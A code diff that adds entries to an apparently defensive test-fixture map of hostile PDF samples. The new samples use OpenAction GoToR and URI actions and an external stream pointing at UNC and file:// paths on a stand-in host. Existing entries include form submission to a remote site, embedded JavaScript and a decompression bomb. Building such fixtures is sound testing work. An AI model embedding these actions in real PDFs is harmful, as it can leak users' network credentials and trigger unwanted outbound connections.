@@ -20,6 +20,13 @@ export const hostileDocuments: Readonly<Record<string, Buffer>> = {
   'PDF that carries a file': pdf('/Names << /EmbeddedFiles 3 0 R >>'),
   'PDF that sends a form': pdf('/S /SubmitForm /F (https://site.example)'),
   'PDF with a form in XML': pdf('/AcroForm << /XFA 4 0 R >>'),
+  'PDF that opens another file': pdf(
+    '/OpenAction << /S /GoToR /F (\\\\\\\\site.example\\\\a.pdf) /D [0 /Fit] >>',
+  ),
+  'PDF that asks for an address when it opens': pdf('/OpenAction << /S /URI /URI (file://site.example/a) >>'),
+  'PDF with data in another file': Buffer.from(
+    `%PDF-1.7\n% ${mark}\n1 0 obj\n<< /Length 0 /F (\\\\\\\\site.example\\\\a) >>\nstream\n\nendstream\nendobj\n`,
+  ),
   'PDF with a packed script': packed('1 0 << /S /JavaScript /JS 4 0 R >>'),
   'PDF that unpacks to 17 MB': packed(`1 0 ${' '.repeat(17 * 1024 * 1024)}`),
   'PDF that is locked': pdf('/Encrypt 5 0 R'),
